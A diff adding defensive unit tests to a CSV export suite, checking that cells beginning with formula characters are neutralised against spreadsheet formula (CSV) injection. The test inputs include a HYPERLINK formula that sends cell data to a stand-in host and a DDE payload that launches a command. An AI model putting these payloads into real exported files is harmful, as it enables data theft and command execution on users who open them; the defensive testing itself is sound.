@@ -233,6 +233,27 @@ describe('CSV export', () => {
     expect(csvField('a "b", c')).toBe('"a ""b"", c"');
     expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
   });
+
+  it('neutralises cells a spreadsheet would run as formulas (OWASP CSV injection)', () => {
+    expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
+    );
+    expect(csvField("+1+cmd|' /C calc'!A0")).toBe(`"'+1+cmd|' /C calc'!A0"`);
+    expect(csvField('-2+3')).toBe(`"'-2+3"`);
+    expect(csvField('@SUM(A1:A2)')).toBe(`"'@SUM(A1:A2)"`);
+    expect(csvField('\t=1')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    // Only the first character counts: a formula sign inside the text is harmless.
+    expect(csvField('a = b - c')).toBe('a = b - c');
+  });
+
+  it("neutralises a formula in a concept's title in the whole file", () => {
+    const [first, ...rest] = concepts;
+    if (!first) throw new Error('no concepts');
+    const evil = { ...first, data: { ...first.data, title: '=HYPERLINK("https://evil.example","x")' } };
+    const { rows } = readCsv(glossaryCsv(input([evil, ...rest])).slice(1));
+    expect(rows.find((r) => r[0] === first.id)?.[1]).toBe(`'${evil.data.title}`);
+  });
 });
 
 describe('special characters', () => {
